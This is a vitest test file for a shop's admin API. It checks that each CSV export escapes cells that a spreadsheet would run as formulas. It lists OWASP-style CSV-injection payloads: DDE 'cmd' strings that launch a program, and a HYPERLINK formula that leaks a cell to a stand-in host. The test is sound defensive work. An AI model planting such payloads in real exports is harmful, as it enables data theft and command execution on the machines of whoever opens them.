import { SHOP_TIME_ZONE } from '@shop/contract';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { products } from './db/schema/catalog.ts';
import { stockLocations } from './db/schema/inventory.ts';
import { newsletterSubscriptions } from './db/schema/newsletter.ts';
import { parseCsv } from './lib/csv.ts';
import { documentsWorld, payByCard, placeOrder } from './modules/documents/test-world.ts';
import { signedInStaff } from './modules/staff/test-fixtures.ts';
import { createTestApp, type TestApp, xsrf } from './test/index.ts';

/** What a spreadsheet runs as a formula (OWASP's CSV injection examples, and the issue's). */
const FORMULAS = [
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const RUNNABLE = /^[=+\-@\t\r]/;

let t: TestApp;
let inspector: string;
let documents: Awaited<ReturnType<typeof documentsWorld>>;
beforeAll(async () => {
  t = await createTestApp();
  // The documents' test catalogue first: it brings products of its own codes.
  documents = await documentsWorld(t);
  inspector = await signedInStaff(t, 'Inspector');
});
afterAll(() => t.close());

/**
 * Each CSV the shop writes, with how this test puts the formulas into what it exports: every
 * operation the API documents as answering `text/csv` must be here.
 */
const EXPORTS: Record<string, () => Promise<string>> = {
  '/api/{lang}/admin/products/export': async () => {
    const [product] = await t.database.db.select({ id: products.id }).from(products).limit(1);
    const id = product?.id ?? 0;
    await t.database.db
      .update(products)
      .set({ nameEl: FORMULAS[0] ?? '', nameEn: FORMULAS[1] ?? '', barcode: FORMULAS[3] ?? '' })
      .where(eq(products.id, id));
    return '/api/el/admin/products/export';
  },
  '/api/{lang}/admin/newsletter/export': async () => {
    await t.database.db.insert(newsletterSubscriptions).values(
      FORMULAS.map((formula, index) => ({
        email: `${formula}.${index}@example.gr`,
        status: 'confirmed' as const,
        source: 'footer' as const,
        confirmedAt: new Date(),
      })),
    );
    return '/api/el/admin/newsletter/export?st=confirmed';
  },
  '/api/{lang}/admin/documents/export/csv': async () => {
    for (const formula of FORMULAS.filter((text) => !/^[\t\r]/.test(text))) {
      const form = { rt: 'invoice', cnm: formula, irs: 'ΔΟΥ Λάρισας', job: 'Εμπόριο', vat: '094014201' };
      await payByCard(t, await placeOrder(t, documents, { payment: 'card', form }));
    }
    // The shop's day (Athens), which a document's issue date is counted in, not UTC's.
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: SHOP_TIME_ZONE }).format(new Date());
    return `/api/el/admin/documents/export/csv?from=${today}&to=${today}`;
  },
  '/api/{lang}/admin/stock/export.csv': async () => {
    const [product] = await t.database.db.select({ id: products.id }).from(products).limit(1);
    const productId = product?.id ?? 0;
    await t.database.db
      .update(products)
      .set({ barcode: FORMULAS[2] ?? '' })
      .where(eq(products.id, productId));
    const made = await t.database.db
      .insert(stockLocations)
      .values(
        FORMULAS.map((formula, index) => ({
          code: formula,
          nameEl: formula,
          nameEn: 'x',
          position: index + 1,
        })),
      )
      .returning({ id: stockLocations.id });
    await t.services.inventory.setAtLocations(
      made.map((location) => ({ locationId: location.id, productId, dimensionId: null, stock: 1 })),
      { staffId: null, reason: 'formula test' },
    );
    return '/api/el/admin/stock/export.csv';
  },
};

function csvOperations(): string[] {
  const document = t.app.swagger() as {
    paths: Record<string, Record<string, { responses?: Record<string, { content?: object }> }>>;
  };
  return Object.entries(document.paths).flatMap(([path, methods]) =>
    Object.values(methods).some((operation) => 'text/csv' in (operation.responses?.['200']?.content ?? {}))
      ? [path]
      : [],
  );
}

describe('every CSV export', () => {
  it('is covered here', () => {
    expect(csvOperations().sort()).toEqual(Object.keys(EXPORTS).sort());
  });

  it.each(Object.keys(EXPORTS))('%s writes no cell a spreadsheet would run as a formula', async (path) => {
    const url = await EXPORTS[path]?.();
    const response = await t.app.inject({
      method: 'GET',
      url: url ?? '',
      headers: { ...(await xsrf(t.app)).headers, authorization: `Bearer ${inspector}` },
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    // The raw cells, before the reader takes the guard off again.
    const cells = response.body
      .replace(/^\uFEFF/, '')
      .split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)
      .flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
      .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
    const runnable = cells.filter((cell) => RUNNABLE.test(cell));
    expect(runnable).toEqual([]);
    // The values are all there, as text; read back, they are what the shop holds.
    const written = cells.filter((cell) => FORMULAS.some((formula) => cell.startsWith(`'${formula}`)));
    expect(written.length).toBeGreaterThan(0);
    const read = parseCsv(response.body).records.flatMap((record) => record.fields);
    for (const cell of written) expect(read).toContain(cell.slice(1));
  });
});
